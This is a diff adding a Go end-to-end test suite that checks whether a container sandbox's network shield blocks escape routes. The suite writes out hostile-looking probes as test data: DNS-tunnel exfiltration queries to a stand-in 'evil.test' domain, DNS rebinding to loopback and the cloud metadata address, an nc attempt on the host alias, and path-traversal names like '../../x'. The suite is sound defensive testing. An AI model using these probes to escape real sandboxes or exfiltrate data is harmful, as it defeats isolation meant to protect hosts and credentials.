@@ -1,0 +1,743 @@
+//go:build e2e
+
+package e2e
+
+// Regression tests for the escape routes of issue 11, each through
+// `terok-sandbox run` with real podman, rootful and rootless, against an
+// authoritative test DNS server of our own in our own outside netns
+// (docs/testing.md, "The rootful DNS harness"). One container per runner
+// serves the DNS subtests; the others start their own.
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io/fs"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"runtime"
+	"sort"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"terok.dev/sandbox/common/creddb"
+	"terok.dev/sandbox/common/shieldbundle"
+	"terok.dev/sandbox/runner/internal/testharness"
+)
+
+const (
+	// escListed is the one domain of the test profile.
+	escListed = "listed.esc-e2e.example"
+	// escUnlisted is a domain no profile lists (the test server answers it).
+	escUnlisted = "unlisted.esc-e2e.example"
+	// escDNSLogBound is the documented bound of dns.log plus its one
+	// rotation dns.log.1 (docs/shield-resolver.md, "Logs").
+	escDNSLogBound = 2 << 20
+)
+
+// The rebinding records of the test server: names below the listed domain
+// whose answers must never open anything.
+var escRebind = map[string]string{
+	"rebind." + escListed: "10.0.2.2",        // slirp4netns's alias of the host's 127.0.0.1
+	"meta." + escListed:   "169.254.169.254", // the metadata address (never sent to)
+	"lo." + escListed:     "127.0.0.1",
+}
+
+// escOutside is the outside test host: a TCP server on every address and
+// an authoritative dnsmasq on dnsIP that logs every query it receives.
+type escOutside struct {
+	*shxOutsideHost
+	hostEnd, dnsIP, listedIP, otherIP string
+	queryLog                          string
+}
+
+func escNewOutside(t *testing.T) *escOutside {
+	t.Helper()
+	o, hostEnd, addrs := shxNewNetnsHost(t, 3)
+	e := &escOutside{shxOutsideHost: o, hostEnd: hostEnd, dnsIP: addrs[0], listedIP: addrs[1], otherIP: addrs[2],
+		queryLog: filepath.Join(t.TempDir(), "queries.log")}
+	o.daemon(t, "socat", "TCP-LISTEN:"+shxOutsidePort+",reuseaddr,fork", "SYSTEM:echo "+shxOutsideReply)
+	args := []string{"--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
+		"--listen-address=" + e.dnsIP, "--bind-interfaces", "--port=53", "--pid-file=",
+		"--log-queries", "--log-facility=" + e.queryLog, "--local-ttl=60",
+		"--address=/" + escListed + "/" + e.listedIP, "--address=/" + escUnlisted + "/" + e.otherIP}
+	for name, addr := range escRebind {
+		args = append(args, "--address=/"+name+"/"+addr)
+	}
+	o.daemon(t, "dnsmasq", args...)
+	shxWaitFor(t, 10*time.Second, "outside DNS server", func() bool {
+		out, err := exec.Command("dig", "+short", "+time=1", "+tries=1", "@"+e.dnsIP, escListed).Output()
+		return err == nil && strings.TrimSpace(string(out)) == e.listedIP
+	})
+	return e
+}
+
+// escQueryLine matches dnsmasq's log line of a received query.
+var escQueryLine = regexp.MustCompile(`query\[([A-Za-z0-9]+)\] (\S+) from `)
+
+// queries returns how often the test server was asked each name (lowercase)
+// and each "TYPE name".
+func (e *escOutside) queries(t *testing.T) map[string]int {
+	t.Helper()
+	f, err := os.Open(e.queryLog)
+	if err != nil {
+		t.Fatalf("test DNS server's query log: %v", err)
+	}
+	defer f.Close()
+	n := map[string]int{}
+	sc := bufio.NewScanner(f)
+	for sc.Scan() {
+		if m := escQueryLine.FindStringSubmatch(sc.Text()); m != nil {
+			name := strings.ToLower(strings.TrimSuffix(m[2], "."))
+			n[name]++
+			n[m[1]+" "+name]++
+		}
+	}
+	return n
+}
+
+// escRunner is one runner prepared for the escape tests: shield hooks
+// installed, a profile listing escListed, the container's upstream DNS
+// leading to the outside test server.
+type escRunner struct {
+	r                    *testharness.Runner
+	out                  *escOutside
+	resolv               string
+	gate, other          *shxHostService
+	proxyPort, agentPort int
+	probeDir             string
+	baseConfig           string
+}
+
+func escSetup(t *testing.T, ctx context.Context, r *testharness.Runner, out *escOutside) *escRunner {
+	t.Helper()
+	shxShieldRunner(t, ctx, r)
+	e := &escRunner{r: r, out: out, gate: shxNewHostService(t), other: shxNewHostService(t),
+		proxyPort: shxFreePort(t), agentPort: shxFreePort(t), probeDir: filepath.Join(r.Base, "probe")}
+	profiles := filepath.Join(r.Dirs.Umbrella, "shield", "profiles")
+	if err := r.Mkdir(profiles, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.WriteFile(filepath.Join(profiles, "esc.txt"), []byte(escListed+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	e.baseConfig = fmt.Sprintf("gate_port = %d\nproxy_port = %d\nssh_agent_port = %d\nshield_profiles = [\"esc\"]\n",
+		e.gate.port, e.proxyPort, e.agentPort)
+	if err := r.WriteConfig(e.baseConfig); err != nil {
+		t.Fatal(err)
+	}
+	e.resolv = filepath.Join(r.Base, "resolv-esc.conf")
+	if err := r.WriteFile(e.resolv, []byte("nameserver "+out.dnsIP+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if r.User != nil {
+		// Rootless slirp4netns lives in the user's podman mount namespace:
+		// the resolv.conf it reads is replaced there only.
+		if res := r.Podman(ctx, "unshare", "mount", "--bind", e.resolv, "/etc/resolv.conf"); res.Code != 0 {
+			t.Fatalf("bind resolv.conf in the podman namespace: %s", res)
+		}
+		t.Cleanup(func() {
+			cctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+			defer cancel()
+			if res := r.Podman(cctx, "unshare", "umount", "/etc/resolv.conf"); res.Code != 0 {
+				t.Errorf("restore resolv.conf in the podman namespace: %s", res)
+			}
+		})
+	}
+	if err := r.Mkdir(e.probeDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	// The probe dir is mounted into the containers; probes built into it
+	// later appear there too.
+	escBuildProbe(t, ctx, "dnsflood", filepath.Join(e.probeDir, "dnsflood"))
+	return e
+}
+
+// escBuildProbe builds runner/e2e/testdata/<name> as a static binary
+// (env adds e.g. GOARCH).
+func escBuildProbe(t *testing.T, ctx context.Context, name, out string, env ...string) {
+	t.Helper()
+	goBin, err := exec.LookPath("go")
+	if err != nil {
+		goBin = filepath.Join(runtime.GOROOT(), "bin", "go")
+	}
+	cmd := exec.CommandContext(ctx, goBin, "build", "-o", out, "./testdata/"+name)
+	cmd.Env = append(append(os.Environ(), "CGO_ENABLED=0"), env...)
+	if b, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("build probe %s: %v\n%s", name, err, b)
+	}
+	if err := os.Chmod(out, 0o755); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// sandbox runs terok-sandbox. Rootful slirp4netns (a child of the podman
+// that `run` starts) reads the host's /etc/resolv.conf, which a test must
+// never touch: rootful commands run in a private mount namespace where our
+// resolv.conf is bind-mounted over it, so the container's upstream DNS can
+// only reach the outside test server.
+func (e *escRunner) sandbox(ctx context.Context, args ...string) testharness.Result {
+	bin, err := e.r.Env().Bin("terok-sandbox")
+	if err != nil {
+		return testharness.Result{Code: -1, Err: err}
+	}
+	if e.r.User != nil {
+		return e.r.Run(ctx, bin, args...)
+	}
+	return e.r.Run(ctx, "unshare", append([]string{"--mount", "--propagation", "slave", "sh", "-c",
+		`mount --bind "$0" /etc/resolv.conf && exec "$@"`, e.resolv, bin}, args...)...)
+}
+
+func (e *escRunner) start(t *testing.T, ctx context.Context, name string, command ...string) {
+	t.Helper()
+	args := append([]string{"run", "--name", name, "--image", H(t).Image, "-v", e.probeDir + ":/probe:ro", "--"}, command...)
+	if res := e.sandbox(ctx, args...); res.Code != 0 {
+		t.Fatalf("terok-sandbox run %s: %s", name, res)
+	}
+}
+
+// nft runs nft in the container's network namespace (from the host, as
+// the container's owner: podman unshare for the rootless user).
+func (e *escRunner) nft(t *testing.T, ctx context.Context, container string, args ...string) string {
+	t.Helper()
+	res := e.r.Podman(ctx, "inspect", "--format", "{{.State.Pid}}", container)
+	pid := strings.TrimSpace(res.Stdout)
+	if res.Code != 0 || pid == "" || pid == "0" {
+		t.Fatalf("container %s pid: %s", container, res)
+	}
+	argv := append([]string{"nsenter", "-t", pid, "-n", "nft"}, args...)
+	if e.r.User != nil {
+		res = e.r.Podman(ctx, append([]string{"unshare"}, argv...)...)
+	} else {
+		res = e.r.Run(ctx, argv[0], argv[1:]...)
+	}
+	if res.Code != 0 {
+		t.Fatalf("nft %v in %s: %s", args, container, res)
+	}
+	return res.Stdout
+}
+
+// escSetElements returns the addresses in set name of an `nft list table`
+// output (nil when the set is missing or empty).
+func escSetElements(table, name string) []string {
+	i := strings.Index(table, "\tset "+name+" {")
+	if i < 0 {
+		return nil
+	}
+	block := table[i:]
+	if j := strings.Index(block, "\n\t}"); j >= 0 {
+		block = block[:j]
+	}
+	k := strings.Index(block, "elements = {")
+	if k < 0 {
+		return nil
+	}
+	body := block[k+len("elements = {"):]
+	if j := strings.Index(body, "}"); j >= 0 {
+		body = body[:j]
+	}
+	var addrs []string
+	for _, el := range strings.Split(body, ",") {
+		if f := strings.Fields(el); len(f) > 0 {
+			addrs = append(addrs, f[0])
+		}
+	}
+	return addrs
+}
+
+// escLearnable lists every set of the table that admits traffic by address
+// learned from DNS or allowed by hand (allow_*, dns_*), with its elements.
+func escLearnable(table string) map[string][]string {
+	sets := map[string][]string{}
+	for _, m := range regexp.MustCompile(`\tset ((?:allow|dns)_v[46]) \{`).FindAllStringSubmatch(table, -1) {
+		sets[m[1]] = escSetElements(table, m[1])
+	}
+	return sets
+}
+
+// escProcs returns "pid: cmdline" of every process whose command line has
+// an argument containing substr.
+func escProcs(substr string) []string {
+	var found []string
+	dirs, _ := filepath.Glob("/proc/[0-9]*")
+	for _, d := range dirs {
+		b, err := os.ReadFile(filepath.Join(d, "cmdline"))
+		if err != nil || len(b) == 0 {
+			continue
+		}
+		args := strings.Split(strings.TrimRight(string(b), "\x00"), "\x00")
+		for _, a := range args {
+			if strings.Contains(a, substr) {
+				found = append(found, filepath.Base(d)+": "+strings.Join(args, " "))
+				break
+			}
+		}
+	}
+	return found
+}
+
+// escConmons returns the conmon processes of container name (conmon gets
+// the name as `-n NAME`).
+func escConmons(name string) []string {
+	var found []string
+	for _, p := range escProcs(name) {
+		f := strings.Fields(p)
+		if len(f) < 2 || filepath.Base(f[1]) != "conmon" {
+			continue
+		}
+		for i := 2; i+1 < len(f); i++ {
+			if (f[i] == "-n" || f[i] == "--name") && f[i+1] == name {
+				found = append(found, p)
+			}
+		}
+	}
+	return found
+}
+
+// escTree lists every path below root (relative, directories with a
+// trailing slash).
+func escTree(t *testing.T, root string) map[string]bool {
+	t.Helper()
+	paths := map[string]bool{}
+	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return nil // vanished while walking
+		}
+		rel, _ := filepath.Rel(root, p)
+		if d.IsDir() {
+			rel += "/"
+		}
+		paths[rel] = true
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return paths
+}
+
+func TestEscape(t *testing.T) {
+	env := H(t)
+	out := escNewOutside(t)
+	env.Each(t, func(t *testing.T, r *testharness.Runner) {
+		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
+		defer cancel()
+		e := escSetup(t, ctx, r, out)
+		name := r.Name("esc")
+		e.start(t, ctx, name, "sleep", "900")
+
+		// Issue 11 part 1: an answer of a listed name must never open the
+		// host's loopback, the metadata address or the container's own
+		// loopback; the listed name's real answer still works.
+		t.Run("rebinding", func(t *testing.T) {
+			for host := range escRebind {
+				shxInContainer(ctx, r, name, "timeout 15 nslookup "+host)
+			}
+			res := shxInContainer(ctx, r, name, "timeout 15 nslookup "+escListed)
+			if !strings.Contains(res.Stdout, e.out.listedIP) {
+				t.Fatalf("nslookup %s: %s", escListed, res)
+			}
+			res = shxInContainer(ctx, r, name, "nc -w 5 10.0.2.2 "+strconv.Itoa(e.other.port)+" </dev/null")
+			if res.Code == 0 || strings.Contains(res.Stdout, shxHostReply) {
+				t.Errorf("a host loopback port is reachable after rebind.%s -> 10.0.2.2: %s", escListed, res)
+			} else if strings.Contains(res.Stderr, "timed out") {
+				t.Errorf("the host loopback port is dropped, not refused at once: %s", res)
+			}
+			if n := e.other.conns.Load(); n != 0 {
+				t.Errorf("the host loopback service saw %d connections", n)
+			}
+			if ok, msg := shxReach(ctx, r, name, "host.containers.internal", strconv.Itoa(e.gate.port), shxHostReply); !ok {
+				t.Errorf("gate port not reachable: %s", msg)
+			}
+			if ok, msg := shxReach(ctx, r, name, e.out.listedIP, shxOutsidePort, shxOutsideReply); !ok {
+				t.Errorf("the listed name's address is not reachable: %s", msg)
+			}
+			table := e.nft(t, ctx, name, "list", "table", "inet", "terok_shield")
+			sets := escLearnable(table)
+			if !strings.Contains(" "+strings.Join(sets["dns_v4"], " ")+" ", " "+e.out.listedIP+" ") {
+				t.Errorf("the listed name's answer %s was not learned into dns_v4: %v", e.out.listedIP, sets)
+			}
+			for set, elems := range sets {
+				for _, el := range elems {
+					for host, addr := range escRebind {
+						if el == addr {
+							t.Errorf("%s (answer of %s) learned into %s", addr, host, set)
+						}
+					}
+				}
+			}
+			if t.Failed() {
+				t.Logf("table:\n%s", table)
+			}
+		})
+
+		// Issue 11 part 2: no name outside the allowlist, no other type and
+		// no query of another socket reaches the upstream.
+		t.Run("tunnel", func(t *testing.T) {
+			id := shxRandID(t)
+			long := strings.Repeat("mfrggzdfmzzwq2lk", 4)[:63]
+			blocked := []struct{ query, name string }{
+				{"-type=txt mfrggzdfmzzwq2lknnwg23tpobyxe43uov3ho6dzpi." + id + ".evil.test", "mfrggzdfmzzwq2lknnwg23tpobyxe43uov3ho6dzpi." + id + ".evil.test"},
+				{"u-" + id + "." + escUnlisted, "u-" + id + "." + escUnlisted},
+				{long + "." + id + ".evil.test", long + "." + id + ".evil.test"},
+				{"-type=txt t-" + id + "." + escListed, "t-" + id + "." + escListed},
+				{"d3-" + id + ".evil.test 10.0.2.3", "d3-" + id + ".evil.test"},
+				{"ds-" + id + ".evil.test " + e.out.dnsIP, "ds-" + id + ".evil.test"},
+			}
+			for _, b := range blocked {
+				shxInContainer(ctx, r, name, "timeout 15 nslookup "+b.query)
+			}
+			listed := "a-" + id + "." + escListed
+			res := shxInContainer(ctx, r, name, "timeout 15 nslookup "+listed)
+			if !strings.Contains(res.Stdout, e.out.listedIP) {
+				t.Errorf("nslookup %s: %s", listed, res)
+			}
+			// The listed query comes last: once the server logged it, it
+			// has logged everything sent before.
+			var q map[string]int
+			shxWaitFor(t, 10*time.Second, "the listed query in the test server's log", func() bool {
+				q = e.out.queries(t)
+				return q["A "+listed] > 0
+			})
+			for _, b := range blocked {
+				if n := q[b.name]; n != 0 {
+					t.Errorf("nslookup %s: the test server received %d queries for %s", b.query, n, b.name)
+				}
+			}
+		})
+
+		// Issue 11 part 3: under slirp4netns 169.254.1.2 is not the host, so
+		// no rule may name it (no traffic is sent there).
+		t.Run("link-local rules", func(t *testing.T) {
+			table := e.nft(t, ctx, name, "list", "table", "inet", "terok_shield")
+			if strings.Contains(table, "169.254.1.2") {
+				t.Errorf("the slirp4netns container's table names 169.254.1.2:\n%s", table)
+			}
+		})
+
+		// Issue 11 part 5: socket families a task never needs, and
+		// io_uring, are refused by the seccomp profile; the ones it needs
+		// work. The probe only creates sockets, it never connects one.
+		t.Run("socket families", func(t *testing.T) { escSocketFamilies(t, ctx, e, name) })
+
+		// Issue 11 part 7: a query flood costs bounded disk and leaves the
+		// resolver answering.
+		t.Run("dns log bound", func(t *testing.T) { escFloodBound(t, ctx, e, name) })
+
+		// Issue 11 part 4: the static marker is refused unless enabled.
+		t.Run("static marker", func(t *testing.T) { escStaticMarker(t, ctx, e, name) })
+
+		// Issue 11 part 6: a failed start leaves nothing behind.
+		t.Run("failed start", func(t *testing.T) { escFailedStart(t, ctx, e) })
+
+		// Issue 11 part 6, the other half: leftovers of a launch that went
+		// wrong before this version are found and stopped.
+		t.Run("leftovers", func(t *testing.T) { escLeftovers(t, ctx, e) })
+
+		// Issue 11 part 8: bad names are refused before anything touches
+		// the disk.
+		t.Run("names", func(t *testing.T) { escNames(t, ctx, e) })
+	})
+}
+
+// escProbeReport is the part of the socket probe's report
+// (testdata/sockprobe) the test reads: outcome per family, "ok" when created.
+type escProbeReport struct {
+	Arch      string            `json:"arch"`
+	Socket    map[string]string `json:"socket"`
+	Direct386 map[string]string `json:"socket_direct_386"`
+	HighBits  map[string]string `json:"socket_high_bits"`
+	IOURing   string            `json:"io_uring_setup"`
+}
+
+func escSocketFamilies(t *testing.T, ctx context.Context, e *escRunner, name string) {
+	r := e.r
+	// The 386 build enters through socketcall(2) and the i386 socket
+	// number: the profile must close those doors too.
+	for _, arch := range []string{"amd64", "386"} {
+		bin := "sockprobe-" + arch
+		escBuildProbe(t, ctx, "sockprobe", filepath.Join(e.probeDir, bin), "GOARCH="+arch)
+		res := r.Podman(ctx, "exec", "--user", "1000:1000", name, "/probe/"+bin)
+		if res.Code != 0 {
+			t.Fatalf("socket probe %s: %s", arch, res)
+		}
+		var rep escProbeReport
+		if err := json.Unmarshal([]byte(res.Stdout), &rep); err != nil || rep.Arch != arch || len(rep.Socket) == 0 {
+			t.Fatalf("probe %s output %q: %v", arch, res.Stdout, err)
+		}
+		entries := map[string]map[string]string{"socket": rep.Socket, "socket_direct_386": rep.Direct386, "socket_high_bits": rep.HighBits}
+		for entry, outcomes := range entries {
+			for _, fam := range []string{"AF_VSOCK", "AF_PACKET", "AF_KEY", "AF_ALG"} {
+				if got, ok := outcomes[fam]; ok && got == "ok" {
+					t.Errorf("%s %s: %s is created in the container", arch, entry, fam)
+				}
+			}
+		}
+		for _, fam := range []string{"AF_VSOCK", "AF_PACKET", "AF_KEY", "AF_ALG", "AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK"} {
+			if _, ok := rep.Socket[fam]; !ok {
+				t.Errorf("%s: the probe did not report %s", arch, fam)
+			}
+		}
+		for _, fam := range []string{"AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK"} {
+			if got := rep.Socket[fam]; got != "ok" {
+				t.Errorf("%s: %s refused: %s", arch, fam, got)
+			}
+		}
+		if rep.IOURing == "ok" {
+			t.Errorf("%s: io_uring_setup succeeds in the container", arch)
+		}
+		if t.Failed() {
+			t.Logf("probe %s:\n%s", arch, res.Stdout)
+		}
+	}
+}
+
+func escFloodBound(t *testing.T, ctx context.Context, e *escRunner, name string) {
+	r := e.r
+	shieldDir := filepath.Join(r.Dirs.State, "tasks", name, "shield")
+	res := r.Podman(ctx, "exec", "--user", "1000:1000", name, "/probe/dnsflood", "-n", "20000",
+		"-zone", "flood-"+shxRandID(t)+"."+escUnlisted)
+	if res.Code != 0 {
+		t.Fatalf("flood: %s", res)
+	}
+	var fl struct {
+		Sent, Answered int
+		Seconds        float64
+	}
+	if err := json.Unmarshal([]byte(res.Stdout), &fl); err != nil || fl.Sent != 20000 {
+		t.Fatalf("flood output %q: %v", res.Stdout, err)
+	}
+	t.Logf("flood: %d queries, %d answered, %.1f s", fl.Sent, fl.Answered, fl.Seconds)
+	var logs, total int64
+	entries, err := os.ReadDir(shieldDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sizes []string
+	for _, en := range entries {
+		info, err := en.Info()
+		if err != nil || !info.Mode().IsRegular() {
+			continue
+		}
+		total += info.Size()
+		if en.Name() == "dns.log" || en.Name() == "dns.log.1" {
+			logs += info.Size()
+		}
+		sizes = append(sizes, fmt.Sprintf("%s=%d", en.Name(), info.Size()))
+	}
+	sort.Strings(sizes)
+	if logs > escDNSLogBound {
+		t.Errorf("dns.log + dns.log.1 = %d bytes after the flood, bound %d", logs, escDNSLogBound)
+	}
+	// Whatever the log is called, the bundle as a whole stays bounded.
+	if total > escDNSLogBound+1<<20 {
+		t.Errorf("the shield state dir holds %d bytes after the flood: %s", total, strings.Join(sizes, " "))
+	}
+	res = shxInContainer(ctx, r, name, "timeout 15 nslookup "+escListed)
+	if !strings.Contains(res.Stdout, e.out.listedIP) {
+		t.Errorf("the resolver does not answer a listed name after the flood: %s", res)
+	}
+}
+
+func escStaticMarker(t *testing.T, ctx context.Context, e *escRunner, name string) {
+	r := e.r
+	up := newPxUpstream(t)
+	if err := r.Mkdir(r.Dirs.Credentials, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	routes := fmt.Sprintf(`{"claude": {"upstream": "http://%s", "auth_header": "dynamic"}}`+"\n", up.addr)
+	if err := r.WriteFile(filepath.Join(r.Dirs.Credentials, "routes.json"), []byte(routes), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	secret := "sk-e2e-STATIC-" + r.Kind + "-9d1f"
+	mustOK(t, "credentials set", pxSandboxStdin(ctx, r, secret+"\n", "credentials", "set", "claude"))
+	t.Cleanup(func() {
+		c, cancel := context.WithTimeout(context.Background(), time.Minute)
+		defer cancel()
+		r.Sandbox(c, "proxy", "stop")
+		if err := r.WriteConfig(e.baseConfig); err != nil {
+			t.Error(err)
+		}
+	})
+	call := fmt.Sprintf(`curl -sS -m 20 -o /dev/null -w '%%{http_code}' -H 'x-api-key: %s' http://host.containers.internal:%d/v1/messages`,
+		creddb.StaticMarker, e.proxyPort)
+	seen := func() (n int, withSecret int) {
+		up.mu.Lock()
+		defer up.mu.Unlock()
+		for _, h := range up.seen {
+			if h.Get("X-Api-Key") == secret {
+				withSecret++
+			}
+		}
+		return len(up.seen), withSecret
+	}
+
+	mustOK(t, "proxy start", r.Sandbox(ctx, "proxy", "start"))
+	mustOK(t, "proxy ensure", r.Sandbox(ctx, "proxy", "ensure"))
+	res := shxInContainer(ctx, r, name, call)
+	if strings.TrimSpace(res.Stdout) != "401" {
+		t.Errorf("static marker by default: want 401, got %s", res)
+	}
+	if n, _ := seen(); n != 0 {
+		t.Errorf("by default the upstream received %d requests for the static marker", n)
+	}
+	mustOK(t, "proxy stop", r.Sandbox(ctx, "proxy", "stop"))
+
+	if err := r.WriteConfig(e.baseConfig + "proxy_static_marker = true\n"); err != nil {
+		t.Fatal(err)
+	}
+	mustOK(t, "proxy start (marker on)", r.Sandbox(ctx, "proxy", "start"))
+	mustOK(t, "proxy ensure", r.Sandbox(ctx, "proxy", "ensure"))
+	res = shxInContainer(ctx, r, name, call)
+	if strings.TrimSpace(res.Stdout) != "200" {
+		t.Errorf("static marker enabled: want 200, got %s", res)
+	}
+	if n, withSecret := seen(); n != 1 || withSecret != 1 {
+		t.Errorf("enabled: the upstream saw %d requests, %d with the credential", n, withSecret)
+	}
+	mustOK(t, "proxy stop", r.Sandbox(ctx, "proxy", "stop"))
+	b, err := os.ReadFile(filepath.Join(r.Dirs.State, "proxy", "credential-proxy.log"))
+	if err != nil {
+		t.Fatalf("proxy log: %v", err)
+	}
+	if !strings.Contains(string(b), "__static__") {
+		t.Errorf("the proxy log does not name __static__:\n%s", b)
+	}
+	if strings.Contains(string(b), secret) || strings.Contains(string(b), creddb.StaticMarker) {
+		t.Errorf("the proxy log shows the secret or the whole marker")
+	}
+}
+
+func escFailedStart(t *testing.T, ctx context.Context, e *escRunner) {
+	r := e.r
+	name := r.Name("fail")
+	taskDir := filepath.Join(r.Dirs.State, "tasks", name)
+	res := e.sandbox(ctx, "run", "--name", name, "--image", H(t).Image, "--", "/no/such/binary")
+	if res.Code == 0 {
+		t.Fatalf("run of /no/such/binary succeeded: %s", res)
+	}
+	if !strings.Contains(res.Stderr, "/no/such/binary") || !strings.Contains(res.Stderr, "removed") {
+		t.Errorf("the error does not name the failed step and the removal: %s", res)
+	}
+	if shxContainerExists(ctx, r, name) {
+		t.Errorf("container %s left behind", name)
+	}
+	if p := escProcs(taskDir + "/"); len(p) != 0 {
+		t.Errorf("processes of the task left behind:\n%s", strings.Join(p, "\n"))
+	}
+	if p := escConmons(name); len(p) != 0 {
+		t.Errorf("conmon left behind:\n%s", strings.Join(p, "\n"))
+	}
+	// The name is free for a good run.
+	res = e.sandbox(ctx, "run", "--name", name, "--image", H(t).Image, "--", "sleep", "600")
+	if res.Code != 0 {
+		t.Fatalf("second run with the same name: %s", res)
+	}
+	if res := r.Sandbox(ctx, "stop", name); res.Code != 0 {
+		t.Errorf("stop: %s", res)
+	}
+}
+
+func escLeftovers(t *testing.T, ctx context.Context, e *escRunner) {
+	r := e.r
+	// A real leak the way older launchers left one: the launch's own podman
+	// command line, run by hand with a command that cannot start, leaves a
+	// Created container with its conmon and its resolver (the hook ran).
+	name := r.Name("leak")
+	taskDir := filepath.Join(r.Dirs.State, "tasks", name)
+	res := e.sandbox(ctx, "run", "--name", name, "--image", H(t).Image, "--", "sleep", "600")
+	if res.Code != 0 {
+		t.Fatalf("run: %s", res)
+	}
+	var line string
+	for _, l := range strings.Split(res.Stdout, "\n") {
+		if strings.HasPrefix(l, "$ podman run ") {
+			line = strings.TrimPrefix(l, "$ ")
+		}
+	}
+	if !strings.HasSuffix(line, " sleep 600") {
+		t.Fatalf("run printed no podman command line ending in the command: %s", res)
+	}
+	if res := r.Podman(ctx, "rm", "-f", "-t", "0", name); res.Code != 0 {
+		t.Fatalf("podman rm: %s", res)
+	}
+	line = strings.TrimSuffix(line, "sleep 600") + "/no/such/binary"
+	if res := r.Run(ctx, "sh", "-c", line); res.Code == 0 {
+		t.Fatalf("podman run of /no/such/binary succeeded: %s", res)
+	}
+	if !shxContainerExists(ctx, r, name) || len(escProcs(taskDir+"/")) == 0 {
+		t.Fatalf("no leak to clean up: container exists %v, processes %v", shxContainerExists(ctx, r, name), escProcs(taskDir+"/"))
+	}
+	if res := r.Sandbox(ctx, "stop", name); res.Code != 0 {
+		t.Errorf("stop: %s", res)
+	}
+	if shxContainerExists(ctx, r, name) {
+		t.Errorf("container %s left after stop", name)
+	}
+	if p := escProcs(taskDir + "/"); len(p) != 0 {
+		t.Errorf("processes of the task left after stop:\n%s", strings.Join(p, "\n"))
+	}
+	if p := escConmons(name); len(p) != 0 {
+		t.Errorf("conmon left after stop:\n%s", strings.Join(p, "\n"))
+	}
+
+	// A dnsmasq of the old tier (a real one; port=0 keeps it off the
+	// network) whose container is gone: `shield check` stops it.
+	old := r.Name("olddns")
+	dir := filepath.Join(r.Dirs.State, "tasks", old, "shield")
+	if err := r.Mkdir(dir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.WriteFile(filepath.Join(dir, shieldbundle.FileDnsmasqConf), []byte("port=0\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.WriteFile(filepath.Join(dir, "container.id"), []byte(strings.Repeat(shxRandID(t), 11)[:64]+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cmd := r.Command(ctx, "dnsmasq", "--keep-in-foreground", shieldbundle.DnsmasqConfArg(dir), "--pid-file=")
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	exited := make(chan struct{})
+	go func() { _ = cmd.Wait(); close(exited) }()
+	t.Cleanup(func() { _ = cmd.Process.Kill(); <-exited })
+	shxWaitFor(t, 5*time.Second, "the old-tier dnsmasq", func() bool { return shieldbundle.IsOurDnsmasq(cmd.Process.Pid, dir) })
+	if err := r.WriteFile(filepath.Join(dir, shieldbundle.FileDnsmasqPID), []byte(strconv.Itoa(cmd.Process.Pid)+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	res = r.Sandbox(ctx, "shield", "check")
+	if !strings.Contains(res.Stdout+res.Stderr, "leaked") || !strings.Contains(res.Stdout+res.Stderr, old) {
+		t.Errorf("shield check does not report the leaked dnsmasq of %s: %s", old, res)
+	}
+	select {
+	case <-exited:
+	case <-time.After(10 * time.Second):
+		t.Errorf("the leaked dnsmasq (pid %d) still runs after shield check", cmd.Process.Pid)
+	}
+}
+
+func escNames(t *testing.T, ctx context.Context, e *escRunner) {
+	r := e.r
+	before := escTree(t, r.Base)
+	for _, bad := range []string{"../../x", "a/b", "../x", "..", "-x"} {
+		res := e.sandbox(ctx, "run", "--name", bad, "--image", H(t).Image, "--", "true")
+		if res.Code != 2 || !strings.Contains(res.Stderr, "name") {
+			t.Errorf("run --name %q: want exit 2 naming the problem, got %s", bad, res)
+		}
+	}
+	var added []string
+	for p := range escTree(t, r.Base) {
+		if !before[p] {
+			added = append(added, p)
+		}
+	}
+	sort.Strings(added)
+	if len(added) != 0 {
+		t.Errorf("bad names wrote below %s:\n%s", r.Base, strings.Join(added, "\n"))
+	}
+}
